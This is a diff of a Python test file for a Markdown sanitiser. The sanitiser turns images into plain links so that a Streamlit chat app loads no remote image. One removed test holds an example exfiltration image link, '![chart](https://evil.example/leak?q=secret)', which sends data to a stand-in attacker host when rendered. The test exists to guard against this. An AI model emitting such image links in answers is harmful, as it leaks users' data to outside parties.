@@ -1,93 +1,21 @@
 """Safe Markdown: images become links, code stays as written, LaTeX delimiters become Streamlit's.
 
-The expected outputs here were checked against micromark with the GFM, math and directive
-extensions (the parser inside Streamlit's st.markdown): the input renders an image, the output
-renders none, and every code span and block renders the same text. The browser test
-(tests/browser/test_safe_markdown_browser.py) checks the same in Streamlit itself.
+The documents and their expected rewrites are in tests/markdown_cases.py; the browser test
+(tests/browser/test_safe_markdown_browser.py) draws the same documents in Streamlit itself.
 """
 
 from __future__ import annotations
 
 import doctest
+import textwrap
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import tschat.safe_markdown
+from tests.markdown_cases import ANSWER, IMAGE, KEPT, REWRITTEN, SAFE_ANSWER
 from tschat.safe_markdown import safe_markdown
-
-IMAGE = "http://h/i.png"
-
-# (input, output): every input shows an image (or is a trap around one); no output does.
-REWRITTEN = [
-    ("![a](http://h/i.png)", "[image: a](http://h/i.png)"),
-    ('![a](http://h/i.png "title")', '[image: a](http://h/i.png "title")'),
-    ("![](http://h/i.png)", "[image](http://h/i.png)"),
-    ("![a](<http://h/i i.png>)", "[image: a](<http://h/i i.png>)"),
-    ("![a][r]\n\n[r]: http://h/i.png", "[image: a][r]\n\n[r]: http://h/i.png"),
-    ("![a][]\n\n[a]: http://h/i.png", "[image: a][a]\n\n[a]: http://h/i.png"),
-    ("![a]\n\n[a]: http://h/i.png", "[image: a][a]\n\n[a]: http://h/i.png"),
-    ("[![i](http://h/i.png)](http://h/link)", "[[image: i](http://h/i.png)](http://h/link)"),
-    (
-        "![a ![b](http://h/b.png)](http://h/i.png)",
-        "[image: a [image: b](http://h/b.png)](http://h/i.png)",
-    ),
-    ("!![a](http://h/i.png)", "\\![image: a](http://h/i.png)"),
-    ("\\\\![a](http://h/i.png)", "\\\\[image: a](http://h/i.png)"),
-    ("> quote ![a](http://h/i.png)", "> quote [image: a](http://h/i.png)"),
-    ("# Title ![a](http://h/i.png)", "# Title [image: a](http://h/i.png)"),
-    ("- item\n\n    ![x](http://h/i.png)", "- item\n\n    [image: x](http://h/i.png)"),
-    ("<div>\n![x](http://h/i.png)\n</div>", "<div>\n\\![x](http://h/i.png)\n</div>"),
-    ("$$\n![x](http://h/i.png)\n$$", "$$\n\\![x](http://h/i.png)\n$$"),
-    # What hides a backtick from a code span: a link title, a literal autolink, inline HTML,
-    # a directive's attributes (Streamlit writes :material/ as :material_ first).
-    ('[a](u "`") ![i](http://h/i.png) `', '[a](u "`") [image: i](http://h/i.png) `'),
-    ("http://x`y ![i](http://h/i.png) `z`", "http://x`y [image: i](http://h/i.png) `z`"),
-    ('<span title="`">![i](http://h/i.png)`', '<span title="`">[image: i](http://h/i.png)`'),
-    (
-        ':material/x{a="`"} ![i](http://h/i.png) `',
-        ':material/x{a="`"} [image: i](http://h/i.png) `',
-    ),
-    # Blocks that end a code fence, or hide its opening line, before the image.
-    (
-        "<div>\n```\n</div>\n\n![x](http://h/i.png)\n```",
-        "<div>\n```\n</div>\n\n[image: x](http://h/i.png)\n```",
-    ),
-    ("$$\n```\n$$\n![x](http://h/i.png)\n```", "$$\n```\n$$\n[image: x](http://h/i.png)\n```"),
-    (
-        ":::note\n```\n:::\n![x](http://h/i.png)\n```",
-        ":::note\n```\n:::\n[image: x](http://h/i.png)\n```",
-    ),
-    # A table row, a heading underline, a definition, a list after code: each ends a span.
-    (
-        "| `a | ![x](http://h/i.png) | b` |\n|---|---|---|",
-        "| `a | \\![x](http://h/i.png) | b` |\n|---|---|---|",
-    ),
-    ("`a\n===\n![x](http://h/i.png) `", "`a\n===\n[image: x](http://h/i.png) `"),
-    ("[r]: `\n![x](http://h/i.png) `", "[r]: `\n\\![x](http://h/i.png) `"),
-    ("    code\n2)     ![x](http://h/i.png)", "    code\n2)     [image: x](http://h/i.png)"),
-    (
-        '- a\n<a href="`">\n\n![x](http://h/i.png)`',
-        '- a\n<a href="`">\n\n[image: x](http://h/i.png)`',
-    ),
-]
-
-# Code, escapes and non-images: nothing to change.
-KEPT = [
-    "`![x](http://h/i.png)`",
-    "``a ` ![y](http://h/i.png) ``",
-    "```md\n![x](http://h/i.png)\n```",
-    "~~~~\n```\n![x](http://h/i.png)\n~~~~",
-    "```\n![x](http://h/i.png)",  # a fence never closed runs to the end
-    "1. step\n   ```\n   ![x](http://h/i.png)\n   ```",
-    "> ```\n> ![x](http://h/i.png)\n> ```",
-    "    ![x](http://h/i.png)",
-    "\\![a](http://h/i.png)",
-    "Plain text, a [link](http://h/page) and <http://h/auto>.",
-    "Prices: $5 and $6.",
-    "",
-]
 
 
 def test_doctests() -> None:
@@ -128,27 +56,8 @@ def test_latex_delimiters(text: str, expected: str) -> None:
     assert safe_markdown(text) == expected
 
 
-def test_a_long_mixed_answer() -> None:
-    answer = (
-        "# Result\n\n"
-        "Here is the chart: ![chart](https://evil.example/leak?q=secret)\n\n"
-        "To embed an image in Markdown, write:\n\n"
-        "```markdown\n![alt text](path/to/image.png)\n```\n\n"
-        "or inline: `![alt](img.png)`.\n\n"
-        "| column | value |\n|---|---|\n| pic | ![p](https://evil.example/p) |\n\n"
-        "1. Step one\n   ```python\n   print('![x](y)')\n   ```\n"
-        "2. The area is \\(\\pi r^2\\).\n"
-    )
-    assert safe_markdown(answer) == (
-        "# Result\n\n"
-        "Here is the chart: [image: chart](https://evil.example/leak?q=secret)\n\n"
-        "To embed an image in Markdown, write:\n\n"
-        "```markdown\n![alt text](path/to/image.png)\n```\n\n"
-        "or inline: `![alt](img.png)`.\n\n"
-        "| column | value |\n|---|---|\n| pic | [image: p](https://evil.example/p) |\n\n"
-        "1. Step one\n   ```python\n   print('![x](y)')\n   ```\n"
-        "2. The area is $\\pi r^2$.\n"
-    )
+def test_a_realistic_answer() -> None:
+    assert safe_markdown(ANSWER) == SAFE_ANSWER
 
 
 MARKDOWNISH = st.lists(
@@ -166,19 +75,22 @@ def test_rewriting_twice_changes_nothing_more(text: str) -> None:
     assert safe_markdown(once) == once
 
 
+def clean(text: str) -> str:
+    """What st.markdown does to any text first (and safe_markdown too)."""
+    return textwrap.dedent(text).strip()
+
+
 @settings(max_examples=300, deadline=None)
 @given(text=st.text(st.characters(blacklist_characters="!\\"), max_size=80))
-def test_text_without_an_exclamation_mark_or_backslash_is_unchanged(text: str) -> None:
-    assert safe_markdown(text) == text
+def test_text_without_an_exclamation_mark_or_backslash_is_only_cleaned(text: str) -> None:
+    assert safe_markdown(text) == clean(text)
 
 
 @settings(max_examples=200, deadline=None)
 @given(code=st.text(st.characters(blacklist_characters="`~\r"), max_size=80))
 def test_anything_inside_a_fenced_block_is_kept(code: str) -> None:
-    text = f"Before ![a]({IMAGE})\n\n```text\n{code}\n```\n"
-    out = safe_markdown(text)
-    assert out.endswith(f"```text\n{code}\n```\n")
-    assert out.startswith(f"Before [image: a]({IMAGE})")
+    text = f"Before ![a]({IMAGE})\n\n```text\n{code}\n```"
+    assert safe_markdown(text) == clean(text).replace("![a]", "[image: a]", 1)
 
 
 @settings(max_examples=200, deadline=None)
@@ -188,7 +100,7 @@ def test_anything_inside_a_fenced_block_is_kept(code: str) -> None:
 def test_only_exclamation_marks_and_image_openers_change(words: list[str]) -> None:
     # Without LaTeX delimiters, the output is the input with backslashes inserted before "!",
     # "![" replaced by "[image" (+ ": ") and reference labels added.
-    text = "".join(words)
+    text = clean("".join(words))
     out = safe_markdown(text)
     simplified = out.replace("[image: ", "![").replace("[image", "![").replace("\\!", "!")
     assert simplified.replace("\\", "") == text.replace("\\", "")
